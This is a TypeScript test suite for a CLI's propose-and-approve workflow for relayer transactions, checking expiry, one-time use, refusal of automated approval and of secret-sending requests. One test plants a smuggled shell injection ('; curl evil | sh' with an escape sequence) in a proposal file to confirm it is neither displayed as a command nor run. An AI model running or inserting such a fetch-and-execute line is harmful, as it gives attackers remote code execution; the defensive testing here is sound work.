import { describe, expect, test } from "vitest";
import { type Transport, TransportFailure } from "../../../src/client/transport/transport.ts";
import { parseJson } from "../../../src/contract/json.ts";
import { createEmbeddedServer } from "../../../src/embedded-server/server.ts";
import { memoryStore } from "../../../src/embedded-server/state/store.ts";
import { cli, runHere } from "../../helpers/cli.ts";
import { manualClock } from "../../helpers/manual-clock.ts";
import { memoryJournal } from "../../helpers/memory/journal.ts";
import { seedState } from "../../helpers/seed-state.ts";
import { SERVER, TOKEN, testApp, type World } from "../../helpers/test-app.ts";

const SEND = "tx send eth-main-1 --to 0x70997970c51812dc3a010c7d01b50e0d17dc79c8 --value 1gwei --speed fast";

/** What two people on one machine share. */
function shared(context: object = {}) {
  const never = new AbortController().signal;
  const clock = manualClock(undefined, never);
  const world: World & { files: Record<string, string>; created: Map<string, string> } = {
    ...{ store: memoryStore(seedState("demo")), proposals: new Map(), journal: memoryJournal(), clock },
    ...{ env: {}, files: { "key.txt": "0123456789abcdef0123456789abcdef" }, created: new Map() },
    config: { version: 1, current: "prod", contexts: { prod: { server: SERVER, token: TOKEN, ...context } } },
  };
  const propose = async (line = SEND, flags = "") => {
    const ran = await cli(`propose ${flags} -- ${line}`, world);
    expect(ran, ran.stderr).toMatchObject({ exitCode: 0, writes: [] });
    return ran.stdout.trim();
  };
  const approve = async (id: string, answers: World["answers"] = [true], more: Partial<World> = {}) =>
    await cli(`approve ${id}`, { ...world, terminal: true, stdoutTerminal: false, answers, ...more });
  const pass = async (milliseconds: number) => await clock.sleep(milliseconds, never);
  return { world, pass, propose, approve };
}

/** The embedded server, of which no response to a write arrives. */
function lossy({ store = memoryStore(seedState("demo")) }: World, seen?: () => void): { transport: Transport } {
  const random = { uuid: () => "00000000-0000-4000-8000-000000000001", fraction: () => 0.5 };
  const server = createEmbeddedServer({ token: TOKEN, store, clock: manualClock(), random });
  const transport: Transport = async (request) => {
    if (request.method === "GET") return await server(request);
    seen?.();
    throw new TransportFailure("reset", "the connection was reset", { sent: true });
  };
  return { transport };
}

describe("propose", () => {
  test("prints the ID alone, shows the request, and sends nothing", async () => {
    const { world } = shared();
    const ran = await cli(`propose -- ${SEND}`, world);
    expect(ran.exitCode).toBe(0);
    expect(ran.stdout).toMatch(/^[0-9a-f]{8}\n$/);
    expect(ran.writes).toEqual([]);
    expect(ran.stderr).toContain("POST /api/v1/relayers/eth-main-1/transactions");
    expect(ran.stderr).toContain(`proposed as: relayctl ${SEND}`);
    expect(ran.stderr).toContain(`to send it: relayctl approve ${ran.stdout.trim()}`);
  });

  test("refuses a read, a command without a request, several requests, a secret, and itself", async () => {
    const { world } = shared();
    const why = async (line: string) => {
      const ran = await cli(`propose -- ${line}`, world);
      expect(ran.writes).toEqual([]);
      expect(ran.stdout).toBe("");
      return [ran.exitCode, ran.stderr] as const;
    };
    expect(await why("api GET /relayers")).toEqual([2, expect.stringContaining("only reads")]);
    expect(await why("version")).toEqual([2, expect.stringContaining("--dry-run")]);
    expect(await why("relayers pause eth-main-1 bsc-hot")).toEqual([2, expect.stringContaining("one by one")]);
    expect(await why("api POST /notifications -F id=a -F signing_key=@key.txt")).toEqual([
      2,
      expect.stringContaining("sends a secret"),
    ]);
    expect(await why("propose -- version")).toEqual([2, expect.stringContaining("cannot be proposed")]);
    expect(await why("relayers update missing-one --name a --diff")).toEqual([
      5,
      expect.stringContaining("missing-one"),
    ]);
    expect(world.proposals?.size).toBe(0);
  });

  test("sends nothing for a line with its own --, and keeps its flags before it", async () => {
    const { propose, world } = shared();
    const id = await propose("relayers pause -- eth-main-1");
    expect(world.proposals?.get(`${id}.json`)).toContain('"target": "/api/v1/relayers/eth-main-1"');
    const local = await cli("propose -- context delete -- prod", { ...world, terminal: true, answers: [true] });
    expect(local.exitCode).toBe(2);
    expect(Object.keys(world.config?.contexts ?? {})).toEqual(["prod"]);
  });

  test("is allowed in read-only mode", async () => {
    const { world } = shared();
    const ran = await cli(`propose -- ${SEND}`, { ...world, env: { RELAYCTL_READONLY: "1" } });
    expect(ran.exitCode, ran.stderr).toBe(0);
  });
});

describe("approve", () => {
  test("sends exactly the proposed bytes once, and records who proposed and who approved", async () => {
    const { propose, approve, world } = shared();
    const id = await propose();
    const stored = parseJson(world.proposals?.get(`${id}.json`) ?? "") as { proposal: { body: string } };
    const ran = await approve(id);
    expect(ran.exitCode, ran.stderr).toBe(0);
    expect(ran.writes.map(({ method, target, body }) => [method, target, body])).toEqual([
      ["POST", "/api/v1/relayers/eth-main-1/transactions", stored.proposal.body],
    ]);
    expect(ran.stderr).toContain(`sent proposal ${id} of ada in prod`);
    const [intent] = world.journal?.entries ?? [];
    expect(intent).toMatchObject({ type: "intent", proposal: { id, user: "ada", approved: ["ada"] } });
    const again = await approve(id);
    expect(again).toMatchObject({ exitCode: 6, writes: [] });
    expect(again.stderr).toContain("already used");
  });

  test.each(["--yes", "--confirm prod", "--no-input"])("refuses %s, which a program could type", async (flag) => {
    const { propose, world } = shared();
    const id = await propose();
    const ran = await cli(`approve ${id} ${flag}`, { ...world, terminal: true });
    expect(ran).toMatchObject({ exitCode: 3, requests: [] });
  });

  test("refuses without a terminal, and keeps the proposal open", async () => {
    const { propose, approve, world } = shared();
    const id = await propose();
    const ran = await cli(`approve ${id}`, world);
    expect(ran).toMatchObject({ exitCode: 3, writes: [] });
    expect(ran.stderr).toContain("somebody on a terminal");
    expect((await approve(id, [false])).exitCode).toBe(3);
    expect((await approve(id)).exitCode).toBe(0);
  });

  test("refuses in read-only mode", async () => {
    const { propose, approve } = shared();
    const ran = await approve(await propose(), [], { env: { RELAYCTL_READONLY: "1" } });
    expect(ran).toMatchObject({ exitCode: 3, writes: [] });
    const readOnly = shared({ read_only: true });
    const inContext = await readOnly.approve(await readOnly.propose(), []);
    expect(inContext).toMatchObject({ exitCode: 3, writes: [] });
  });

  test.each(["CI", "RELAYCTL_NO_INPUT"])("refuses with %s set", async (name) => {
    const { propose, approve } = shared();
    expect(await approve(await propose(), [], { env: { [name]: "1" } })).toMatchObject({ exitCode: 3, writes: [] });
  });

  test("refuses what expired, was used, or was changed while the question was open", async () => {
    const meanwhile: ((all: ReturnType<typeof shared>, id: string) => unknown)[] = [
      ({ pass }) => pass(600_000),
      ({ approve }, id) => approve(id),
      ({ world }) => cli("relayers update eth-main-1 --name treasury", world),
    ];
    for (const act of meanwhile) {
      const all = shared();
      const id = await all.propose("relayers update eth-main-1 --name vault");
      const made = testApp({ ...all.world, terminal: true, stdoutTerminal: false });
      const { app, requests, stderr } = made;
      const prompts = { ...(await app.prompts({})), confirm: async () => [await act(all, id)].length === 1 };
      const { exitCode } = await runHere({ ...made, app: { ...app, prompts: async () => prompts } }, ["approve", id]);
      expect(exitCode, stderr.text()).toBe(6);
      expect(requests.filter(({ method }) => method !== "GET")).toEqual([]);
    }
  });

  test("sends nothing again after a lost response, and says that the outcome is unknown", async () => {
    const { propose, approve, world } = shared();
    const id = await propose();
    const { transport } = lossy(world);
    const lost = await approve(id, [true], { service: transport });
    expect(lost.exitCode, lost.stderr).toBe(11);
    expect(lost.writes).toHaveLength(1);
    expect(await approve(id, [])).toMatchObject({ exitCode: 6, writes: [] });
  });

  test("is used up before its request leaves", async () => {
    const { propose, approve, world } = shared();
    const id = await propose();
    let wasUsed = false;
    const { transport } = lossy(world, () => {
      wasUsed = world.proposals?.has(`${id}.used`) === true;
    });
    await approve(id, [true], { service: transport });
    expect(wasUsed).toBe(true);
  });

  test("shows control characters of a file as text, and no line of a shell as a command to run", async () => {
    const { propose, approve, world, pass } = shared();
    await propose(SEND, "--out pay.json");
    const text = world.created?.get("pay.json") ?? "";
    const hostile = text.replace(/"command": ".*"/, String.raw`"command": "relayctl tx\u001b[2J\n; curl evil | sh"`);
    const declined = await approve("evil.json", [false], { files: { "evil.json": hostile } });
    expect(declined.exitCode).toBe(3);
    expect(declined.stderr).not.toContain("\u001b[2J");
    expect(declined.stderr).not.toMatch(/^; curl/m);
    await pass(600_000);
    const late = await approve("evil.json", [], { files: { "evil.json": hostile } });
    expect(late.exitCode).toBe(6);
    expect(late.stderr).not.toContain("curl");
  });

  test("asks for the name of a protected context, and beyond its limits", async () => {
    for (const context of [{ protected: true }, { max_value: { wei: "1" } }]) {
      const { propose, approve } = shared(context);
      const id = await propose();
      expect(await approve(id, ["eth-main-1"])).toMatchObject({ exitCode: 3, writes: [] });
      const ran = await approve(id, ["prod"]);
      expect(ran.exitCode, ran.stderr).toBe(0);
      expect(ran.writes).toHaveLength(1);
    }
  });

  test("refuses an expired proposal, one for another context, and one whose target or limits were changed", async () => {
    const { propose, approve, world, pass } = shared();
    const change = "relayers update eth-main-1 --name treasury";
    const first = await propose(change);
    await pass(1);
    const second = await propose(change);
    expect((await approve(first)).exitCode).toBe(0);
    const changed = await approve(second);
    expect(changed).toMatchObject({ exitCode: 6, writes: [] });
    expect(changed.stderr).toContain("not as it was");
    const third = await propose();
    const elsewhere = { prod: { server: "http://127.0.0.1:9", token: TOKEN } };
    const moved = await approve(third, [], { config: { version: 1, contexts: elsewhere } });
    expect(moved).toMatchObject({ exitCode: 6, requests: [] });
    const limited = { prod: { server: SERVER, token: TOKEN, max_value: { wei: "5" } } };
    const looser = await approve(third, [], { config: { version: 1, contexts: limited } });
    expect(looser.stderr).toContain("limits of prod were changed");
    const other = await cli(`approve ${third} -c other`, {
      ...world,
      terminal: true,
      config: { version: 1, contexts: { other: { server: SERVER, token: TOKEN } } },
    });
    expect(other).toMatchObject({ exitCode: 6, writes: [] });
    await pass(600_000);
    const late = await approve(third);
    expect(late).toMatchObject({ exitCode: 6, writes: [] });
    expect(late.stderr).toContain("it expired at");
    expect(late.stderr).toContain(`relayctl propose -- ${SEND}`);
  });

  test("sends a proposal from its file, and refuses one that was edited under its ID", async () => {
    const { propose, approve, world } = shared();
    const id = await propose(SEND, "--out pay.json");
    const text = world.created?.get("pay.json") ?? "";
    world.proposals?.set(`${id}.json`, text.replace("1000000000", "2000000000"));
    const edited = await approve(id, []);
    expect(edited).toMatchObject({ exitCode: 3, requests: [] });
    const ran = await approve("pay.json");
    expect(ran.exitCode, ran.stderr).toBe(0);
    expect((await approve("pay.json")).stderr).toContain("already used");
  });

  test("refuses an unknown ID and a file that is not a proposal", async () => {
    const { approve } = shared();
    expect((await approve("00000000", [])).exitCode).toBe(5);
    const other = await approve("other.json", [], { files: { "other.json": '{"proposal":{}}' } });
    expect(other.exitCode).toBe(2);
    expect(other.stderr).toContain("not a proposal");
  });
});

test("proposals list shows what is open, used, and expired", async () => {
  const { propose, approve, world, pass } = shared();
  const used = await propose();
  await approve(used);
  await pass(300_000);
  const open = await propose("relayers resume bsc-hot");
  await pass(310_000);
  const ran = await cli("proposals list --no-headers --fields id,state,approved_by -o json", world);
  expect(JSON.parse(ran.stdout)).toEqual([
    { id: open, state: "open", approved_by: [] },
    { id: used, state: "used", approved_by: ["ada"] },
  ]);
});
